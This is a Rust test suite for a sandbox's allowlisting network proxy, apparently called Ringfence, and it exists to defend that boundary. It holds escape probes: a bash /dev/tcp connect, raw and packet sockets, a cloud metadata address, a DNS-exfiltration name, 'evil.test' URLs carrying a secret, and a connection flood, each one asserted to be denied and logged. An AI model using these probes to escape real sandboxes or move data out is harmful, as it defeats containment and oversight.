//! E01 to E24 as a program behind the wall meets them: what is listed can be reached, and nothing else by any way. What the
//! proxy makes of odd names, headers and addresses is tested where the proxy is.

use std::net::TcpListener;

use ringfence_testkit::canary::Listener;

use crate::origin::{FETCH, Origin};
use crate::probe::{Wall, interpreter, python, run, sh, walled_with};
use crate::stage::Stage;
use crate::world::{Side, Told, Try};
use crate::{bound, leads, rows};

/// A stage whose policy allows exactly `net`.
fn stage(net: &str) -> Option<Stage> {
    walled_with(&format!("net: {{ mode: allowlist, {net} }}\n"))
}

#[test]
fn e14_a_listed_port_of_the_host_is_reached_and_no_other() {
    let (origin, other) = (Origin::start(), Listener::start().unwrap());
    let Some(stage) = stage(&format!("localhost: [{}]", origin.port)) else { return };
    let listed = format!("http://localhost:{}/a", origin.port);
    let unlisted = format!("http://localhost:{}/b", other.port());
    let Some(ended) = python(&stage, Wall::Native, FETCH, &[&listed, &unlisted]) else { return };
    let text = ended.text();
    assert!(text.starts_with("200 hello\n403 Ringfence denied"), "{text}");
    assert!(text.contains(&format!("localhost:{}", origin.port)), "it says what is allowed instead: {text}");
    assert_eq!((origin.asked(), other.hits()), (vec!["GET /a 0".to_owned()], 0));
    python(&stage, Wall::Bare, FETCH, &[&unlisted]);
    assert!(other.hits() > 0, "the probe proves nothing");
}

#[test]
fn e01_an_empty_allowlist_denies_everything() {
    let origin = Origin::start();
    let Some(stage) = stage("allow: []") else { return };
    let urls = [format!("http://localhost:{}/", origin.port), format!("http://127.0.0.1:{}/", origin.port)];
    let Some(ended) = python(&stage, Wall::Native, FETCH, &[&urls[0], &urls[1], "http://a.test/"]) else { return };
    assert_eq!(ended.text().lines().filter(|line| line.starts_with("403 Ringfence denied")).count(), 3, "{ended:?}");
    assert!(origin.asked().is_empty());
    python(&stage, Wall::Bare, FETCH, &[&urls[0]]);
    assert_eq!(origin.asked().len(), 1, "the probe proves nothing");
}

#[test]
fn e12_there_is_no_route_past_the_proxy() {
    // What is listed answers at the sandbox's own loopback, too. What is not, answers nowhere.
    let (listed, origin) = (Origin::start(), Origin::start());
    let port = origin.port.to_string();
    let Some(stage) = stage(&format!("localhost: [{}], allow: [a.test]", listed.port)) else { return };
    let code = "
import socket, sys
port = int(sys.argv[1])
for family, kind, address in [
    (socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', port)), (socket.AF_INET, socket.SOCK_STREAM, ('192.0.2.1', 80)),
    (socket.AF_INET, socket.SOCK_DGRAM, ('192.0.2.1', 443)), (socket.AF_INET6, socket.SOCK_STREAM, ('2001:db8::1', 80)),
    (socket.AF_INET, socket.SOCK_STREAM, ('169.254.169.254', 80)), (socket.AF_INET, socket.SOCK_RAW, ('192.0.2.1', 0)),
    (socket.AF_PACKET, socket.SOCK_RAW, ('lo', 0))]:
    try:
        with socket.socket(family, kind) as s: s.settimeout(2); s.connect(address); print('reached', address)
    except OSError: pass
print('done')
";
    let unset = format!("unset {}; exec python3 -c \"$1\" {port}", VARIABLES.join(" "));
    let ended = sh(&stage, Wall::Native, &unset, &[code]);
    assert_eq!(ended.text(), "done\n", "{ended:?}");
    let bash = sh(&stage, Wall::Native, "bash -c \"exec 3<>/dev/tcp/127.0.0.1/$1\" 2> /dev/null; echo $?", &[&port]);
    assert_eq!(bash.text(), "1\n");
    assert!(origin.asked().is_empty());
    // The way that there is works for the same program.
    let url = format!("http://127.0.0.1:{}/", listed.port);
    let Some(twin) = python(&stage, Wall::Native, FETCH, &[&url]) else { return };
    assert_eq!(twin.text(), "200 hello\n", "the probe proves nothing: {twin:?}");
}

pub(crate) const VARIABLES: [&str; 8] =
    ["HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "https_proxy", "ALL_PROXY", "all_proxy", "NO_PROXY", "no_proxy"];

#[test]
fn e11_no_name_is_looked_up_inside() {
    let Some(stage) = stage("allow: [a.test]") else { return };
    let code = "
import socket, struct
for name in ('a.test', 'c2VjcmV0.evil.test', 'localhost'):
    try: print(name, socket.getaddrinfo(name, 80)[0][4][0])
    except OSError: print(name, 'none')
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    try: s.sendto(b'\\0' * 32, ('192.0.2.53', 53)); print('sent')
    except OSError: print('no way')
";
    let Some(ended) = python(&stage, Wall::Native, code, &[]) else { return };
    let text = ended.text();
    assert!(text.contains("c2VjcmV0.evil.test none\n") && text.ends_with("no way\n"), "{text}");
    assert!(text.contains("localhost 127.0.0.1\n") || text.contains("localhost ::1\n"), "{text}");
}

#[test]
fn e02_to_e24_what_nobody_honest_says_to_the_proxy_reaches_nobody() {
    let (origin, other) = (Origin::start(), Listener::start().unwrap());
    let Some(stage) = walled_with(&rows::policy(&origin)) else { return };
    let ports = [origin.port.to_string(), other.port().to_string()];
    let Some(ended) = python(&stage, Wall::Native, rows::ROWS, &[&ports[0], &ports[1]]) else { return };
    rows::check(&ended, &origin, &other);
}

/// Runs it behind the wall, or without one.
fn tried(it: &Try<'_>, side: Side) -> Option<Told> {
    let stage = walled_with(it.policy)?;
    let python = interpreter()?;
    let wall = match side {
        Side::Walled => Wall::Native,
        Side::Bare => Wall::Bare,
    };
    it.end(&stage, run(&stage, wall, &[], &it.argv(python.to_str().unwrap())))
}

#[test]
fn e09_an_allowed_name_that_leads_inside_is_looked_up_and_refused_and_one_that_leads_outside_is_reached() {
    leads::check_e09(&tried);
}

#[test]
fn e10_a_name_whose_answer_changes_leads_where_the_one_answer_said_or_nowhere() {
    leads::check_e10(&tried);
}

#[test]
fn e17_the_second_hop_of_a_redirect_is_judged_and_the_secret_does_not_come_along() {
    bound::check_e17(&tried);
}

#[test]
fn e22_nobody_elses_key_gets_to_a_host_that_a_secret_is_bound_to() {
    bound::check_e22(&tried);
}

#[test]
fn e23_a_placeholder_gets_to_nobody_wherever_it_is_put() {
    bound::check_e23(&tried);
}

#[test]
fn e23_a_placeholder_in_a_name_is_not_looked_up() {
    leads::check_e23_names(&tried);
}

/// Speaks to the proxy by hand: every kind of request for the same forbidden place, then for the allowed one.
const BY_HAND: &str = "
import socket, sys
def ask(*pieces):
    with socket.create_connection(('127.0.0.1', 3128), 5) as s:
        answer = b''
        for piece in pieces:
            s.sendall(piece); answer = s.recv(65536)
        return answer
def http(text): return ask(text.encode())[9:12].decode()
def socks(host, port): return ask(b'\\x05\\x01\\x00', b'\\x05\\x01\\x00\\x03' + bytes([len(host)]) + host + port.to_bytes(2, 'big'))[1]
for port in (int(sys.argv[1]), int(sys.argv[2])):
    print(http(f'GET http://localhost:{port}/ HTTP/1.1\\r\\nHost: localhost:{port}\\r\\nConnection: close\\r\\n\\r\\n'),
          http(f'CONNECT localhost:{port} HTTP/1.1\\r\\nHost: localhost:{port}\\r\\n\\r\\n'), socks(b'localhost', port))
";

#[test]
fn e24_plain_requests_tunnels_and_socks_are_judged_alike() {
    let (origin, other) = (Origin::start(), Listener::start().unwrap());
    let Some(stage) = stage(&format!("localhost: [{}]", origin.port)) else { return };
    let ports = [other.port().to_string(), origin.port.to_string()];
    let Some(ended) = python(&stage, Wall::Native, BY_HAND, &[&ports[0], &ports[1]]) else { return };
    assert_eq!(ended.text(), "403 403 2\n200 200 0\n", "{ended:?}");
    assert_eq!(other.hits(), 0);
}

#[test]
fn what_was_denied_and_what_was_reached_is_in_the_outcome_and_in_the_ledger() {
    let origin = Origin::start();
    let Some(stage) = stage(&format!("localhost: [{}], allow: [a.test]", origin.port)) else { return };
    let fetch = format!("{FETCH}\nsys.exit(3)");
    let url = format!("http://localhost:{}/here", origin.port);
    let argv = ["python3", "-c", &fetch, &url, &url, "http://evil.test/x?secret"];
    let outcome = run(&stage, Wall::Native, &["--json"], &argv).run().json();
    let network = outcome["network"].as_array().cloned().unwrap_or_default();
    let found: Vec<_> =
        network.iter().map(|one| (&one["host"], &one["allowed"], &one["count"], &one["path"])).collect();
    let shown = format!("{found:?}");
    assert_eq!(network.len(), 2, "{outcome:#}");
    assert!(network.iter().any(|one| one["allowed"] == true && one["count"] == 2 && one["status"] == 200), "{shown}");
    let denied = network.iter().find(|one| one["host"] == "evil.test").unwrap();
    assert_eq!((&denied["reason"], &denied["path"]), (&"net.not-listed".into(), &"/x".into()), "the query is not kept");
    assert_eq!(outcome["violations"][0]["rule"], "net.allowlist");
    assert!(outcome["advice"].as_str().unwrap().contains("a.test"), "{}", outcome["advice"]);
    let enforced = outcome["enforced"].as_array().unwrap();
    let evidence = enforced.iter().find(|one| one["guarantee"] == "net.allowlist").unwrap();
    assert!(evidence["evidence"].to_string().contains("only lo, no route, and our proxy at"), "{evidence}");
    let ledger = std::fs::read_to_string(stage.ledger()).unwrap();
    assert!(ledger.contains("\"host\":\"evil.test\""), "{ledger}");
}

#[test]
fn a_session_has_one_way_out_and_each_run_is_told_what_it_asked_for() {
    let origin = Origin::start();
    let Some(stage) = stage(&format!("localhost: [{}]", origin.port)) else { return };
    let name = "net";
    stage.ringfence(["session", "start", name]).run().expect(0, &[]);
    let url = format!("http://localhost:{}/one", origin.port);
    let fetch = |url: &str| {
        let argv = ["session", "exec", "--json", name, "--", "python3", "-c", FETCH, url];
        stage.ringfence(argv).run().json()
    };
    let (one, two) = (fetch(&url), fetch("http://evil.test/"));
    stage.ringfence(["session", "stop", name]).run();
    assert_eq!((&one["stdout"], one["network"].as_array().unwrap().len()), (&"200 hello\n".into(), 1), "{one:#}");
    assert_eq!(two["network"][0]["allowed"], false, "{two:#}");
    assert_eq!(two["network"].as_array().unwrap().len(), 1, "{two:#}");
}

#[test]
fn e19_many_half_open_connections_end_with_the_run_and_hold_up_nobody() {
    let origin = Origin::start();
    let Some(stage) = stage(&format!("localhost: [{}]", origin.port)) else { return };
    let code = "
import socket, sys, urllib.request
held = []
for _ in range(300):
    s = socket.socket(); s.settimeout(1)
    try: s.connect(('127.0.0.1', 3128)); s.sendall(b'GET http://loc'); held.append(s)
    except OSError: break
print(len(held) >= 100)
for s in held: s.close()
with urllib.request.urlopen(sys.argv[1], timeout=20) as answer: print(answer.read().decode().strip())
";
    let url = format!("http://localhost:{}/", origin.port);
    let Some(ended) = python(&stage, Wall::Native, code, &[&url]) else { return };
    assert_eq!(ended.text(), "True\nhello\n", "{ended:?}");
}

#[test]
fn whatever_a_program_asks_for_its_end_and_its_denials_are_in_the_ledger() {
    let origin = Origin::start();
    let Some(stage) = stage(&format!("localhost: [{}]", origin.port)) else { return };
    let code = "
import socket, sys
def get(url):
    with socket.create_connection(('127.0.0.1', 3128), 5) as s:
        s.sendall(f'GET {url} HTTP/1.1\\r\\nHost: {url.split(\"/\")[2]}\\r\\nConnection: close\\r\\n\\r\\n'.encode()); s.recv(99)
for number in range(120): get(f'http://localhost:{sys.argv[1]}/{number}/' + 'a' * 3000)
for number in range(5): get(f'http://evil.test/{number}/' + 'a' * 60000)
";
    let outcome =
        run(&stage, Wall::Native, &["--json"], &["python3", "-c", code, &origin.port.to_string()]).run().json();
    assert_eq!((&outcome["exitCode"], origin.asked().len()), (&0.into(), 120), "{}", outcome["stderr"]);
    let denied = outcome["violations"].as_array().unwrap().iter().filter(|one| one["rule"] == "net.allowlist").count();
    assert!(denied > 0 && outcome["networkOmitted"].as_u64().unwrap() > 0, "{outcome:#}");
    let ledger = std::fs::read_to_string(stage.ledger()).unwrap();
    assert!(ledger.lines().last().unwrap().contains("\"kind\":\"ended\""), "the end is missing");
}

#[test]
fn what_a_tunnel_carried_is_counted_when_its_program_ends_first() {
    let sink = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = sink.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for mut stream in sink.incoming().flatten() {
            std::thread::spawn(move || std::io::copy(&mut stream, &mut std::io::sink()));
        }
    });
    let Some(stage) = stage(&format!("localhost: [{port}]")) else { return };
    let code = "
import os, socket, sys, time
s = socket.create_connection(('127.0.0.1', 3128), 5)
s.sendall(f'CONNECT localhost:{sys.argv[1]} HTTP/1.1\\r\\nHost: localhost:{sys.argv[1]}\\r\\n\\r\\n'.encode()); s.recv(99)
s.sendall(b'x' * 300000); time.sleep(0.5); os._exit(0)
";
    let outcome = run(&stage, Wall::Native, &["--json"], &["python3", "-c", code, &port.to_string()]).run().json();
    assert_eq!(outcome["network"][0]["bytesUp"], 300_000, "{:#}", outcome["network"]);
}

#[test]
fn what_is_asked_for_between_the_runs_of_a_session_is_in_the_ledger() {
    let Some(stage) = stage("allow: [a.test]") else { return };
    let name = "between";
    stage.ringfence(["session", "start", name]).run().expect(0, &[]);
    // Leaves its session, so that nobody takes it for a part of the run that started it.
    let code = "
import os, socket, time
if os.fork() == 0:
    os.setsid()
    for number in range(3): os.close(number)
    time.sleep(1.5)
    with socket.create_connection(('127.0.0.1', 3128), 5) as s:
        s.sendall(b'GET http://later.test/ HTTP/1.1\\r\\nHost: later.test\\r\\n\\r\\n'); s.recv(99)
";
    let run = stage.ringfence(["session", "exec", "--json", name, "--", "python3", "-c", code]).run().json();
    assert!(run["network"].is_null(), "it asked while it ran: {run:#}");
    std::thread::sleep(std::time::Duration::from_secs(3));
    stage.ringfence(["session", "stop", name]).run();
    let ledger = std::fs::read_to_string(stage.ledger()).unwrap();
    assert!(ledger.contains("\"host\":\"later.test\""), "{ledger}");
}

#[test]
fn what_is_carried_when_a_session_ends_is_counted_in_its_end() {
    // It takes everything, and never hangs up.
    let sink = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = sink.local_addr().unwrap().port();
    let (held, holds) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for mut stream in sink.incoming().flatten() {
            std::io::copy(&mut std::io::Read::take(&mut stream, 300_000), &mut std::io::sink()).unwrap();
            held.send(stream).unwrap();
        }
    });
    let Some(stage) = stage(&format!("localhost: [{port}]")) else { return };
    let name = "carried";
    stage.ringfence(["session", "start", name]).run().expect(0, &[]);
    let code = "
import os, socket, sys, time
if os.fork() == 0:
    os.setsid()
    for number in range(3): os.close(number)
    time.sleep(1.5)
    s = socket.create_connection(('127.0.0.1', 3128), 5)
    s.sendall(f'CONNECT localhost:{sys.argv[1]} HTTP/1.1\\r\\nHost: localhost:{sys.argv[1]}\\r\\n\\r\\n'.encode()); s.recv(99)
    s.sendall(b'x' * 300000); time.sleep(600)
";
    let port = port.to_string();
    let run = stage.ringfence(["session", "exec", "--json", name, "--", "python3", "-c", code, &port]).run().json();
    assert!(run["network"].is_null(), "it asked while it ran: {run:#}");
    let stream = holds.recv_timeout(std::time::Duration::from_secs(30)).unwrap();
    stage.ringfence(["session", "stop", name]).run();
    let ledger = std::fs::read_to_string(stage.ledger()).unwrap();
    assert!(ledger.lines().last().unwrap().contains("\"bytesUp\":300000"), "{ledger}");
    drop(stream);
}

#[test]
fn a_programs_own_server_is_asked_without_the_proxy_unless_ports_of_the_host_are_listed() {
    let code = "
import http.server, threading, urllib.request, urllib.error
server = http.server.HTTPServer(('127.0.0.1', 0), http.server.SimpleHTTPRequestHandler)
threading.Thread(target=server.serve_forever, daemon=True).start()
try: print(urllib.request.urlopen(f'http://localhost:{server.server_port}/', timeout=10).status)
except urllib.error.HTTPError as error: print(error.code)
";
    for (net, expected) in [("allow: [a.test]", "200"), ("localhost: [5432]", "403")] {
        let Some(stage) = stage(net) else { return };
        let Some(python) = interpreter() else { return };
        let ended = run(&stage, Wall::Native, &[], &[python.to_str().unwrap(), "-c", code]).run();
        assert_eq!(ended.text().trim(), expected, "{ended:?}");
    }
}
